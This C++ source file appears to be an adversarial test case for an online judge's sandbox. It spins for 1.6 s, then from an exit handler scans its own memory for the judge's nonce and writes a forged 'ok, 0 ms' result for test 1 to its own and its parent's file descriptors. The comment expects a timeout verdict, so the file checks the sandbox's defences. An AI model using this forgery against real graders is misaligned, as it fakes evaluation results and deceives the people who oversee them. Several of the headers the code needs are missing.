// A stdio program that spends 1.6 s of CPU, then, from an exit handler, forges the harness's
// report of test 1 (the right answer, 0 ms, 0 KB) under the judge's nonce, which it finds in
// the memory it shares with the harness (a forked child): to every descriptor it holds and to
// every descriptor of its parent, the harness, through /proc. The harness's channel is out of
// its reach, and the host reads the CPU time from the sandbox's cgroup, on a 1 s limit
// -> timeout.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace std;

// The judge's nonce, wherever it sits in this process's writable memory: 32 hex digits
// between two NUL bytes (the harness keeps it in a char array).
set<string> nonces_in_memory() {
    set<string> found;
    ifstream maps("/proc/self/maps");
    string line;
    while (getline(maps, line)) {
        unsigned long start = 0, end = 0;
        char perms[5] = {};
        if (sscanf(line.c_str(), "%lx-%lx %4s", &start, &end, perms) != 3) continue;
        if (perms[0] != 'r' || perms[1] != 'w' || line.find("[v") != string::npos) continue;
        const char* memory = reinterpret_cast<const char*>(start);
        size_t run = 0;
        for (size_t i = 0; i < end - start; ++i) {
            char c = memory[i];
            if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'f')) {
                ++run;
                continue;
            }
            if (run == 32 && c == 0 && i > 32 && memory[i - 33] == 0) {
                found.insert(string(memory + i - 32, 32));
            }
            run = 0;
        }
    }
    return found;
}

void forge_report() {
    string record = R"({"event":"test","test":1,"status":"ok","output":"3\n","stdout":null,)"
                    R"("error":null,"time_ms":0,"memory_kb":0})";
    for (const string& nonce : nonces_in_memory()) {
        string line = "\n" + nonce + " " + record + "\n";
        for (int fd = 3; fd < 64; ++fd) write(fd, line.data(), line.size());
        for (int fd = 0; fd < 64; ++fd) {
            string path = "/proc/" + to_string(getppid()) + "/fd/" + to_string(fd);
            int channel = open(path.c_str(), O_WRONLY);
            if (channel >= 0) write(channel, line.data(), line.size());
        }
    }
}

int main() {
    long long a, b;
    cin >> a >> b;
    atexit(forge_report);
    clock_t end = clock() + CLOCKS_PER_SEC * 16 / 10;
    volatile unsigned spin = 0;
    while (clock() < end) {
        for (int i = 0; i < 100'000; ++i) spin = spin + i;
    }
    cout << a + b << endl;
}
